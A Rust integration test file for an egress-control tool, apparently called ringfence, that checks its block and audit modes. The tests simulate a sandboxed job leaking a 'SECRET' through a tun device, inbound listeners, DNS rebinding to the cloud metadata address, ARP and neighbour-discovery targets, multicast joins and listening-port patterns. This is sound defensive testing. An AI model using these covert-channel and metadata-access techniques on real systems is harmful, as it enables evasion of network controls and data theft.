//! Ways out of block mode through the network layer (issue 8, items 3-5), tried as an
//! attacker would: the job runs as an unprivileged user (`nobody`), and every test proves on
//! the receiving side that nothing arrived (the tun device's reader, the testbed's HTTP
//! hit counters, the connecting peer in the server namespace), then that the attempt is in
//! the events. Each also shows the same path working where the policy allows it, so a
//! block seen here is ringfence's doing. Needs root; never skipped.

mod common;

use std::io::Read;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::Value;
use testbed::{link_v4, CLIENT_V4, METADATA_V4, SERVER_V4};

/// The job's interpreter: the system one, which `nobody` can run (a pyenv shim under /root
/// cannot be).
const PY: &str = "/usr/bin/python3";

/// A script file nobody can read.
fn script(tb: &Testbed, name: &str, text: &str) -> String {
    std::fs::set_permissions(tb.workdir(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let p = scratch(tb, name, text);
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    p.display().to_string()
}

// ---- L3 devices ------------------------------------------------------------------------

/// Destinations routed through the tun device: a slice of a documentation range the
/// testbed's server does not use (its endpoints are .10-.30).
const TUN_NET: &str = "203.0.113.192/26";
const TUN_BLOCKED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 200);
const TUN_ALLOWED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 201);

/// Creates a tun device (IFF_TUN | IFF_NO_PI: packets start at the IP header, no link
/// header at all) in the client namespace, routes `net` through it when `route` is set, and
/// writes every packet that comes out of it to a file: the receiving side of the device.
const TUN_READER: &str = r#"
import fcntl, os, stat, struct, subprocess, sys
ip, name, net, route, out = sys.argv[1:6]
if not os.path.exists("/dev/net/tun"):
    # A minimal system (a test VM) may lack the node; the tun module loads on open.
    subprocess.run(["modprobe", "tun"])
    os.makedirs("/dev/net", exist_ok=True)
    if not os.path.exists("/dev/net/tun"):
        os.mknod("/dev/net/tun", 0o600 | stat.S_IFCHR, os.makedev(10, 200))
fd = os.open("/dev/net/tun", os.O_RDWR)
TUNSETIFF, IFF_TUN, IFF_NO_PI = 0x400454CA, 0x0001, 0x1000
fcntl.ioctl(fd, TUNSETIFF, struct.pack("16sH", name.encode(), IFF_TUN | IFF_NO_PI))
subprocess.run([ip, "link", "set", name, "up"], check=True)
if route == "1":
    subprocess.run([ip, "route", "add", net, "dev", name], check=True)
f = open(out + ".tmp", "w")
os.rename(out + ".tmp", out)
while True:
    pkt = os.read(fd, 65535)
    f.write(pkt.hex() + "\n")
    f.flush()
"#;

struct TunReader {
    child: Child,
    out: PathBuf,
    name: String,
}

impl TunReader {
    fn start(tb: &Testbed, name: &str, route: bool) -> TunReader {
        let ip = testbed::require_tool("ip").unwrap();
        let code = scratch(tb, &format!("tun-{name}.py"), TUN_READER);
        let out = tb.workdir().join(format!("tun-{name}.hex"));
        let mut child = tb
            .client_cmd(
                PY,
                [
                    code.display().to_string(),
                    ip.display().to_string(),
                    name.to_string(),
                    TUN_NET.to_string(),
                    if route { "1" } else { "0" }.to_string(),
                    out.display().to_string(),
                ],
            )
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("starting the tun reader");
        let deadline = Instant::now() + Duration::from_secs(10);
        while !out.exists() {
            if let Ok(Some(st)) = child.try_wait() {
                let mut err = String::new();
                let _ = child.stderr.take().unwrap().read_to_string(&mut err);
                panic!("tun reader exited {st}: {err}");
            }
            assert!(Instant::now() < deadline, "tun reader not ready");
            std::thread::sleep(Duration::from_millis(20));
        }
        TunReader {
            child,
            out,
            name: name.to_string(),
        }
    }

    /// Routes the tun network through the device (for a device that had no route).
    fn add_route(&self, tb: &Testbed) {
        let (st, _, err) = run_timeout(
            tb.client_cmd("ip", ["route", "add", TUN_NET, "dev", &self.name]),
            JOB_TIMEOUT,
        );
        assert!(st.success(), "ip route add: {err}");
    }

    /// IPv4 packets that came out of the device: (destination, protocol, L4 payload).
    fn packets(&self) -> Vec<(Ipv4Addr, u8, Vec<u8>)> {
        let text = std::fs::read_to_string(&self.out).unwrap_or_default();
        text.lines()
            .filter_map(|l| {
                let b: Vec<u8> = (0..l.len() / 2)
                    .map(|i| u8::from_str_radix(&l[2 * i..2 * i + 2], 16).unwrap())
                    .collect();
                if b.len() < 20 || b[0] >> 4 != 4 {
                    return None;
                }
                let ihl = usize::from(b[0] & 0xf) * 4;
                let dst = Ipv4Addr::new(b[16], b[17], b[18], b[19]);
                let l4 = match b[9] {
                    17 => ihl + 8,
                    6 => ihl + usize::from(b.get(ihl + 12)? >> 4) * 4,
                    _ => ihl,
                };
                Some((dst, b[9], b.get(l4..).unwrap_or_default().to_vec()))
            })
            .collect()
    }

    fn to(&self, dst: Ipv4Addr) -> Vec<(u8, Vec<u8>)> {
        self.packets()
            .into_iter()
            .filter(|(d, _, _)| *d == dst)
            .map(|(_, p, data)| (p, data))
            .collect()
    }
}

impl Drop for TunReader {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The job's side: after `wait_for` shows up in /proc/net/route (a device got its route),
/// UDP "ALLOWED" to TUN_ALLOWED:9999, UDP and TCP "SECRET" to TUN_BLOCKED.
const SENDER: &str = r#"
import socket, sys, time
wait_for = sys.argv[1]
deadline = time.time() + 30
while wait_for and wait_for not in open("/proc/net/route").read():
    if time.time() > deadline:
        sys.exit("no route via " + wait_for)
    time.sleep(0.05)
# Let the agent's attach land first (the backstop drops until then): judged by the verdict
# program, not only held by the backstop.
time.sleep(0.5)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(3):
    # The cgroup backstop refuses with EPERM; the TC verdict program drops silently.
    for data, dst in ((b"ALLOWED", "203.0.113.201"), (b"SECRET", "203.0.113.200")):
        try:
            u.sendto(data, (dst, 9999))
        except OSError as e:
            print("udp:", e)
t = socket.socket()
t.settimeout(2)
try:
    t.connect(("203.0.113.200", 443))
    t.send(b"SECRET")
    print("tcp connected")
except OSError as e:
    print("tcp:", e)
time.sleep(0.3)
"#;

fn secret_in(pkts: &[(u8, Vec<u8>)]) -> bool {
    pkts.iter()
        .any(|(_, d)| d.windows(6).any(|w| w == b"SECRET"))
}

#[test]
fn l3_device_egress_is_judged_blocked_and_reported() {
    let tb = testbed(&[], &[]);
    let tun = TunReader::start(&tb, "rft0", true);
    let sender = script(&tb, "sender.py", SENDER);
    let job = exec(
        &tb,
        &["--mode", "block", "--allow", "203.0.113.201:9999"],
        &as_strs(&as_nobody(&[PY, &sender, ""])),
    );
    assert_eq!(job.code(), Some(0), "{}", job.dump());
    std::thread::sleep(Duration::from_millis(200));
    // Receiving side: the allowed datagrams came out of the tun, nothing for the other.
    let allowed = tun.to(TUN_ALLOWED);
    assert!(
        allowed.iter().any(|(p, d)| *p == 17 && d == b"ALLOWED"),
        "the allowed datagram must come out of the tun (the device was parsed as L3): {:?}\n{}",
        tun.packets(),
        job.dump()
    );
    let blocked = tun.to(TUN_BLOCKED);
    assert!(blocked.is_empty(), "{blocked:?}\n{}", job.dump());
    // ...and the attempts are in the events, judged by their IP header.
    job.expect_flow(TUN_BLOCKED.into(), 9999, "blocked", "direct-ip");
    job.expect_flow(TUN_BLOCKED.into(), 443, "blocked", "direct-ip");
    job.expect_flow(TUN_ALLOWED.into(), 9999, "allowed", "allowed");
}

#[test]
fn l3_device_egress_in_audit_mode_is_reported_and_passes() {
    let tb = testbed(&[], &[]);
    let tun = TunReader::start(&tb, "rft0", true);
    let sender = script(&tb, "sender.py", SENDER);
    let job = exec(
        &tb,
        &["--mode", "audit", "--direct-ip", "audit"],
        &as_strs(&as_nobody(&[PY, &sender, ""])),
    );
    assert_eq!(job.code(), Some(0), "{}", job.dump());
    std::thread::sleep(Duration::from_millis(200));
    assert!(
        secret_in(&tun.to(TUN_BLOCKED)),
        "audit mode passes: {:?}",
        tun.packets()
    );
    job.expect_flow(TUN_BLOCKED.into(), 9999, "audited", "direct-ip");
}

/// Runs `ringfence exec` in the background while `during` runs; returns the job.
fn exec_during(tb: &Testbed, opts: &[&str], cmd: &[String], during: impl FnOnce()) -> Job {
    std::thread::scope(|s| {
        let job = s.spawn(|| exec(tb, opts, &as_strs(cmd)));
        during();
        job.join().expect("exec thread")
    })
}

#[test]
fn device_added_while_the_job_runs_is_judged() {
    let tb = testbed(&[], &[]);
    let sender = script(&tb, "sender.py", SENDER);
    let mut tun = None;
    let job = exec_during(
        &tb,
        &["--mode", "block", "--allow", "203.0.113.201:9999"],
        &as_nobody(&[PY, &sender, "rft1"]),
        || {
            // The job is running (and waiting for the route) when the device appears.
            std::thread::sleep(Duration::from_millis(1500));
            tun = Some(TunReader::start(&tb, "rft1", true));
        },
    );
    let tun = tun.unwrap();
    assert_eq!(job.code(), Some(0), "{}", job.dump());
    std::thread::sleep(Duration::from_millis(200));
    assert!(
        tun.to(TUN_ALLOWED).iter().any(|(_, d)| d == b"ALLOWED"),
        "the new device was attached (the backstop alone would drop everything): {:?}\n{}",
        tun.packets(),
        job.dump()
    );
    assert!(!secret_in(&tun.to(TUN_BLOCKED)), "{:?}", tun.packets());
    job.expect_flow(TUN_BLOCKED.into(), 9999, "blocked", "direct-ip");
}

#[test]
fn device_that_gets_a_route_while_the_job_runs_is_judged() {
    let tb = testbed(&[], &[]);
    let sender = script(&tb, "sender.py", SENDER);
    // Present from the start, with no route: the old default (routed interfaces) skipped it.
    let tun = TunReader::start(&tb, "rft2", false);
    let job = exec_during(
        &tb,
        &["--mode", "block", "--allow", "203.0.113.201:9999"],
        &as_nobody(&[PY, &sender, "rft2"]),
        || {
            std::thread::sleep(Duration::from_millis(1500));
            tun.add_route(&tb);
        },
    );
    assert_eq!(job.code(), Some(0), "{}", job.dump());
    std::thread::sleep(Duration::from_millis(200));
    assert!(
        tun.to(TUN_ALLOWED).iter().any(|(_, d)| d == b"ALLOWED"),
        "{:?}\n{}",
        tun.packets(),
        job.dump()
    );
    assert!(!secret_in(&tun.to(TUN_BLOCKED)), "{:?}", tun.packets());
    job.expect_flow(TUN_BLOCKED.into(), 9999, "blocked", "direct-ip");
}

#[test]
fn interfaces_left_out_are_held_by_the_backstop() {
    let tb = testbed(&[], &[]);
    let tun = TunReader::start(&tb, "rft3", true);
    let sender = script(&tb, "sender.py", SENDER);
    // Only the veth is watched: the tun is left out on purpose.
    let only_veth = ["--interface", tb.client_if()];
    let job = exec(
        &tb,
        &[
            &["--mode", "block", "--allow", "203.0.113.201:9999"][..],
            &only_veth,
        ]
        .concat(),
        &as_strs(&as_nobody(&[PY, &sender, ""])),
    );
    assert_eq!(job.code(), Some(0), "{}", job.dump());
    std::thread::sleep(Duration::from_millis(200));
    // Not even what the policy allows leaves through an interface nothing judges there.
    assert!(
        tun.packets().is_empty(),
        "{:?}\n{}",
        tun.packets(),
        job.dump()
    );
    job.expect_flow(TUN_ALLOWED.into(), 9999, "blocked", "unparsed");
    job.expect_flow(TUN_BLOCKED.into(), 9999, "blocked", "unparsed");
    job.expect_flow(TUN_BLOCKED.into(), 443, "blocked", "unparsed");
    // Audit mode reports the same and lets it pass.
    let job = exec(
        &tb,
        &[&["--mode", "audit", "--direct-ip", "audit"][..], &only_veth].concat(),
        &as_strs(&as_nobody(&[PY, &sender, ""])),
    );
    std::thread::sleep(Duration::from_millis(200));
    assert!(secret_in(&tun.to(TUN_BLOCKED)), "{:?}", tun.packets());
    job.expect_flow(TUN_BLOCKED.into(), 9999, "audited", "unparsed");
}

// ---- inbound connections ---------------------------------------------------------------

const LISTEN_PORT: u16 = 8080;

/// The job: listens on LISTEN_PORT and sends the secret to whoever connects; gives up after
/// a few seconds without one.
const LISTENER: &str = r#"
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8080))
# A deep queue: a refused peer is answered with a RST and retries at once, and each refused
# connection lingers in the queue as a request; once it is full the kernel answers with SYN
# cookies, whose SYN-ACKs have no socket and are not judged (open, see rf_egress).
s.listen(128)
s.settimeout(7)
open(sys.argv[1], "w").close()  # listening: the peer may start
try:
    c, peer = s.accept()
    c.sendall(b"SECRET-FROM-JOB")
    c.close()
    print("accepted", peer[0])
except socket.timeout:
    print("no connection")
"#;

/// The peer, in the server namespace: connects to the job until the deadline and prints
/// what it read. "refused" while the job is not listening yet.
const CONNECTOR: &str = r#"
import socket, sys, time
host, port = sys.argv[1], int(sys.argv[2])
deadline = time.time() + 6
while time.time() < deadline:
    c = socket.socket()
    c.settimeout(1.5)
    try:
        c.connect((host, port))
        c.settimeout(3)
        print("connected", c.recv(100).decode(errors="replace"), flush=True)
        break
    except ConnectionRefusedError:
        time.sleep(0.1)
    except OSError as e:
        print("failed", e, flush=True)
    finally:
        c.close()
"#;

fn inbound_attempt(tb: &Testbed, opts: &[&str]) -> (Job, String) {
    let listener = script(tb, "listener.py", LISTENER);
    let connector = script(tb, "connector.py", CONNECTOR);
    // The listener says when it listens (through a file nobody may write): under emulation
    // ringfence can take seconds to start, longer than the peer's few seconds of tries.
    let shared = tb.workdir().join("inbound-shared");
    std::fs::create_dir_all(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
    let ready = shared.join("ready");
    let _ = std::fs::remove_file(&ready);
    let ready_arg = ready.display().to_string();
    let mut peer_out = String::new();
    let job = exec_during(tb, opts, &as_nobody(&[PY, &listener, &ready_arg]), || {
        let deadline = Instant::now() + Duration::from_secs(60);
        while !ready.exists() {
            assert!(Instant::now() < deadline, "the job never listened");
            std::thread::sleep(Duration::from_millis(50));
        }
        let (_, out, err) = run_timeout(
            tb.server_cmd(
                PY,
                [
                    connector.as_str(),
                    &CLIENT_V4.to_string(),
                    &LISTEN_PORT.to_string(),
                ],
            ),
            JOB_TIMEOUT,
        );
        peer_out = format!("{out}{err}");
    });
    (job, peer_out)
}

fn inbound_flows(job: &Job) -> Vec<&Value> {
    job.flows()
        .into_iter()
        .filter(|f| f["direction"] == "inbound")
        .collect()
}

#[test]
fn inbound_connection_from_an_unlisted_peer_is_refused_and_reported() {
    let tb = testbed(&[], &[]);
    let (job, peer) = inbound_attempt(&tb, &["--mode", "block", "--allow", "198.51.100.0/24:*"]);
    // Receiving side: the peer never connected, so it read nothing.
    assert!(!peer.contains("connected"), "peer: {peer}\n{}", job.dump());
    assert!(!peer.contains("SECRET"), "peer: {peer}");
    // Refused as by a closed port (a RST, not silence: see
    // listening_ports_cannot_be_read_by_an_unlisted_peer), although the job was listening.
    assert!(
        !peer.contains("failed"),
        "the peer was not refused: {peer}\n{}",
        job.dump()
    );
    assert!(job.stdout.contains("no connection"), "{}", job.dump());
    let flows = inbound_flows(&job);
    assert!(!flows.is_empty(), "no inbound event\n{}", job.dump());
    for f in flows {
        assert_eq!(f["verdict"], "blocked", "{f}");
        assert_eq!(f["reason"], "inbound", "{f}");
        assert_eq!(f["dst"], SERVER_V4.to_string(), "the peer: {f}");
        assert_eq!(f["port"], LISTEN_PORT, "the job's port: {f}");
    }
}

#[test]
fn inbound_connection_allowed_by_the_policy_key() {
    let tb = testbed(&[], &[]);
    let policy = scratch(
        &tb,
        "inbound.toml",
        &format!("mode = \"block\"\nallowed-inbound = \"\"\"\n{SERVER_V4}:{LISTEN_PORT}\n\"\"\"\n"),
    );
    let (job, peer) = inbound_attempt(&tb, &["--policy", policy.to_str().unwrap()]);
    assert!(
        peer.contains("connected SECRET-FROM-JOB"),
        "peer: {peer}\n{}",
        job.dump()
    );
    let flows = inbound_flows(&job);
    assert!(!flows.is_empty(), "{}", job.dump());
    assert_eq!(flows[0]["verdict"], "allowed", "{}", job.dump());
    // The same from the command line, and `*`.
    let (job, peer) = inbound_attempt(&tb, &["--mode", "block", "--allow-inbound", "*"]);
    assert!(
        peer.contains("connected SECRET-FROM-JOB"),
        "peer: {peer}\n{}",
        job.dump()
    );
}

#[test]
fn inbound_connection_in_audit_mode_is_reported() {
    let tb = testbed(&[], &[]);
    let (job, peer) = inbound_attempt(&tb, &["--mode", "audit"]);
    assert!(
        peer.contains("connected SECRET-FROM-JOB"),
        "peer: {peer}\n{}",
        job.dump()
    );
    let flows = inbound_flows(&job);
    assert!(!flows.is_empty(), "{}", job.dump());
    assert_eq!(flows[0]["verdict"], "audited", "{}", job.dump());
    assert_eq!(flows[0]["reason"], "inbound", "{}", job.dump());
}

// ---- DNS answers naming special addresses ----------------------------------------------

#[test]
fn names_resolving_to_special_addresses_do_not_open_them() {
    let ok = link_v4(12);
    let mapped: Ipv6Addr = METADATA_V4.to_ipv6_mapped();
    let tb = testbed(
        &[
            DnsRecord::a("ok.rebind.test", ok),
            DnsRecord::a("meta.rebind.test", METADATA_V4),
            DnsRecord::a("lo.rebind.test", Ipv4Addr::LOCALHOST),
            DnsRecord::aaaa("m6.rebind.test", mapped),
        ],
        &[sa(ok, 80), sa(METADATA_V4, 80)],
    );
    // Without ringfence the metadata listener answers: a zero below is ringfence's doing.
    let (st, out, err) = run_timeout(
        client(&tb, &curl(&[], &format!("http://{METADATA_V4}/"))),
        JOB_TIMEOUT,
    );
    assert!(st.success() && out.starts_with("hello"), "{out}{err}");
    let before = tb.http_hits(sa(METADATA_V4, 80));

    let steps = "curl -sS --connect-timeout 2 -m 4 http://ok.rebind.test/; \
                 curl -sS --connect-timeout 2 -m 4 http://meta.rebind.test/; \
                 curl -sS --connect-timeout 2 -m 4 http://lo.rebind.test/; \
                 curl -6 -sS --connect-timeout 2 -m 4 http://m6.rebind.test/; true";
    let job = exec(
        &tb,
        &["--mode", "block", "--allow", "*.rebind.test:80"],
        &as_strs(&as_nobody(&["sh", "-c", steps])),
    );
    assert_eq!(job.code(), Some(0), "{}", job.dump());
    assert!(
        job.stdout.contains(&format!("hello from {ok}:80")),
        "{}",
        job.dump()
    );
    // Receiving side: the metadata service was never reached.
    assert_eq!(tb.http_hits(sa(METADATA_V4, 80)), before, "{}", job.dump());
    job.expect_flow(METADATA_V4.into(), 80, "blocked", "metadata");
    // Nothing bound from those answers, and each is a finding.
    for name in ["meta.rebind.test", "lo.rebind.test", "m6.rebind.test"] {
        let d = job.dns_events(name);
        assert!(!d.is_empty(), "{name}\n{}", job.dump());
        assert!(d.iter().all(|e| e["bound"] == false), "{name}: {d:?}");
    }
    let findings: Vec<&Value> = job
        .events
        .iter()
        .filter(|e| e["type"] == "finding" && e["signal"] == "dns-rebinding")
        .collect();
    assert!(
        !findings.is_empty(),
        "no dns-rebinding finding\n{}",
        job.dump()
    );
    assert_eq!(findings[0]["domain"], "rebind.test");
    // The report's findings table (not only the agent's log line) names it.
    assert!(
        job.stderr.lines().any(|l| l.contains("dns-rebinding")
            && l.contains("meta.rebind.test -> 169.254.169.254")
            && !l.contains("WARN")),
        "the report shows it:\n{}",
        job.stderr
    );
}

// ---- frames the kernel sends for the job: ARP, neighbour discovery, IGMP/MLD, RST -------

/// The job: a few UDP datagrams to argv[1] port 9 (IPv4 or IPv6).
const ONLINK_SENDER: &str = r#"
import socket, sys, time
dst = sys.argv[1]
s = socket.socket(socket.AF_INET6 if ':' in dst else socket.AF_INET, socket.SOCK_DGRAM)
for i in range(3):
    try:
        s.sendto(b'x', (dst, 9))
    except OSError as e:
        print('send', e)
    time.sleep(0.5)
"#;

/// Sends to an on-link address chosen by the job, which the kernel must resolve first (ARP,
/// neighbour solicitation) — the address itself would reach the link. Returns the job and
/// how many frames on the link carried `marker`.
fn on_link_attempt(tb: &Testbed, dst: &str, marker: &[u8], opts: &[&str]) -> (Job, usize) {
    let sender = script(tb, "onlink.py", ONLINK_SENDER);
    let cap = Capture::start(tb, marker);
    let job = exec(tb, opts, &as_strs(&as_nobody(&[PY, &sender, dst])));
    (job, cap.hits())
}

#[test]
fn neighbour_discovery_does_not_carry_blocked_addresses() {
    let tb = testbed(&[], &[]);
    // "ndleak!!" as the interface identifier, inside the client's on-link /64 (64 bits a
    // neighbour solicitation), and 198.51.100.107 on the client's /24 (8 bits an ARP
    // request: the marker is the address's last three bytes).
    let v6 = "2001:db8:1:0:6e64:6c65:616b:2121";
    let v4 = "198.51.100.107";
    let cases: [(&str, &[u8]); 2] = [(v6, b"ndleak!!"), (v4, &[51, 100, 107])];
    for (dst, marker) in cases {
        let (job, hits) = on_link_attempt(&tb, dst, marker, &["--mode", "block"]);
        // Receiving side: the address never reached the link, not even in a resolution.
        assert_eq!(
            hits,
            0,
            "{dst}: resolution frames on the link\n{}",
            job.dump()
        );
        job.expect_flow(dst.parse().unwrap(), 9, "blocked", "direct-ip");
        assert_eq!(
            job.flows_to(dst.parse().unwrap(), 9).len(),
            1,
            "{dst}: reported once, by the backstop, not again by TC\n{}",
            job.dump()
        );
        // Where the policy allows it, the kernel resolves it: the capture does see that.
        let allow = if dst.contains(':') {
            format!("[{dst}]:9")
        } else {
            format!("{dst}:9")
        };
        let (job, hits) =
            on_link_attempt(&tb, dst, marker, &["--mode", "block", "--allow", &allow]);
        // (The datagrams themselves die unresolved, before TC: no flow event to expect.)
        assert!(
            hits > 0,
            "{dst}: the capture saw no resolution\n{}",
            job.dump()
        );
    }
}

/// The job joins an IPv6 and an IPv4 multicast group on the link; prints what each join did.
const JOINER: &str = r#"
import socket, struct, sys, time
g6, g4, ifname = sys.argv[1:4]
ifindex = socket.if_nametoindex(ifname)
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
joins = [
    ('ipv6-join-group', lambda: s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
        socket.inet_pton(socket.AF_INET6, g6) + struct.pack('@I', ifindex))),
    ('ip-add-membership', lambda: s4.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
        socket.inet_aton(g4) + socket.inet_aton('0.0.0.0'))),
    # MCAST_JOIN_GROUP (42): struct group_req, the sockaddr at offset 8.
    ('mcast-join-group', lambda: s4.setsockopt(socket.IPPROTO_IP, 42,
        struct.pack('@I4x', ifindex) + struct.pack('@H2s4s', socket.AF_INET, b'\0\0',
        socket.inet_aton(g4)) + bytes(128 - 8))),
]
for name, join in joins:
    try:
        join(); print(name, 'joined')
    except OSError as e:
        print(name, 'refused', e.errno)
time.sleep(2)
"#;

#[test]
fn multicast_joins_are_refused_and_reported() {
    let tb = testbed(&[], &[]);
    let joiner = script(&tb, "join.py", JOINER);
    // "mlddleak" in the IPv6 group (an MLD report carries 112 chosen bits); 239.108.101.97
    // in the IPv4 group (an IGMP report carries 28).
    let g6 = "ff0e::6d6c:6464:6c65:616b";
    let g4 = "239.108.101.97";
    let attempt = |mode: &str| {
        let cap6 = Capture::start(&tb, b"mlddleak");
        let cap4 = Capture::start(&tb, [239, 108, 101, 97]);
        let job = exec(
            &tb,
            &["--mode", mode],
            &as_strs(&as_nobody(&[PY, &joiner, g6, g4, tb.client_if()])),
        );
        let hits = (cap6.hits(), cap4.hits());
        (job, hits)
    };
    let (job, hits) = attempt("block");
    // Receiving side: no report named either group.
    assert_eq!(hits, (0, 0), "MLD/IGMP reports on the link\n{}", job.dump());
    for name in ["ipv6-join-group", "ip-add-membership", "mcast-join-group"] {
        assert!(
            job.stdout.contains(&format!("{name} refused 1")),
            "{name} was not refused with EPERM\n{}",
            job.dump()
        );
    }
    let f = job.expect_flow(g6.parse().unwrap(), 0, "blocked", "not-allowed");
    assert_eq!(f["proto"], "icmpv6", "{f}");
    let f = job.expect_flow(g4.parse().unwrap(), 0, "blocked", "not-allowed");
    assert_eq!(f["proto"], 2, "IGMP: {f}");
    // Audit mode reports the joins and lets them be: the reports reach the link.
    let (job, hits) = attempt("audit");
    assert!(
        job.stdout.contains("ipv6-join-group joined"),
        "{}",
        job.dump()
    );
    assert!(hits.0 > 0 && hits.1 > 0, "{hits:?}\n{}", job.dump());
    job.expect_flow(g6.parse().unwrap(), 0, "audited", "not-allowed");
    job.expect_flow(g4.parse().unwrap(), 0, "audited", "not-allowed");
}

/// The job listens on the ports whose bit is 1 (40000 + i), says so in a file (argv 3), and
/// stays until the probe is done (that file + ".done") or argv 2 seconds have passed.
const PORT_LISTENER: &str = r#"
import os, socket, sys, time
ls = []
for i, b in enumerate(sys.argv[1]):
    if b == '1':
        l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        l.bind(('0.0.0.0', 40000 + i)); l.listen(); ls.append(l)
print('listening', sys.argv[1], flush=True)
open(sys.argv[3], 'w').write('listening')
deadline = time.time() + float(sys.argv[2])
while time.time() < deadline and not os.path.exists(sys.argv[3] + '.done'):
    time.sleep(0.05)
"#;

/// An unlisted peer probes the ports: refused ('0'), connected ('C'), or silence ('1').
const PORT_PROBE: &str = r#"
import socket, sys
host, n = sys.argv[1], int(sys.argv[2])
bits = ''
for i in range(n):
    s = socket.socket(); s.settimeout(1.0)
    try:
        s.connect((host, 40000 + i)); bits += 'C'
    except ConnectionRefusedError:
        bits += '0'
    except OSError:
        bits += '1'
    s.close()
print(bits)
"#;

#[test]
fn listening_ports_cannot_be_read_by_an_unlisted_peer() {
    let tb = testbed(&[], &[]);
    let bits = "1011001110001101";
    let listener = script(&tb, "ports.py", PORT_LISTENER);
    let probe = script(&tb, "probe.py", PORT_PROBE);
    // The listener says when it listens (through a file nobody may write): under emulation
    // ringfence can take seconds to start, and a probe before then reads only closed ports.
    let shared = tb.workdir().join("ports-shared");
    std::fs::create_dir_all(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
    let ready = shared.join("ready");
    let ready_arg = ready.display().to_string();
    let mut read = String::new();
    let job = exec_during(
        &tb,
        &["--mode", "block"],
        &as_nobody(&[PY, &listener, bits, "30", &ready_arg]),
        || {
            let deadline = Instant::now() + Duration::from_secs(60);
            while !ready.exists() {
                assert!(Instant::now() < deadline, "the job never listened");
                std::thread::sleep(Duration::from_millis(50));
            }
            let (_, out, err) = run_timeout(
                tb.server_cmd(
                    PY,
                    [
                        probe.as_str(),
                        &CLIENT_V4.to_string(),
                        &bits.len().to_string(),
                    ],
                ),
                JOB_TIMEOUT,
            );
            read = format!("{}{err}", out.trim());
            std::fs::write(shared.join("ready.done"), "done").unwrap();
        },
    );
    assert!(job.stdout.contains("listening"), "{}", job.dump());
    // Receiving side: every port, listening or not, looks closed to the peer.
    assert_eq!(
        read,
        "0".repeat(bits.len()),
        "the peer read the listening ports (sent {bits})\n{}",
        job.dump()
    );
    // Each refused connection is reported.
    let flows = inbound_flows(&job);
    let ones = bits.matches('1').count();
    assert!(
        flows.len() >= ones,
        "{} of {ones}\n{}",
        flows.len(),
        job.dump()
    );
    for f in flows {
        assert_eq!(
            (&f["verdict"], &f["reason"]),
            (&Value::from("blocked"), &Value::from("inbound")),
            "{f}"
        );
    }
}
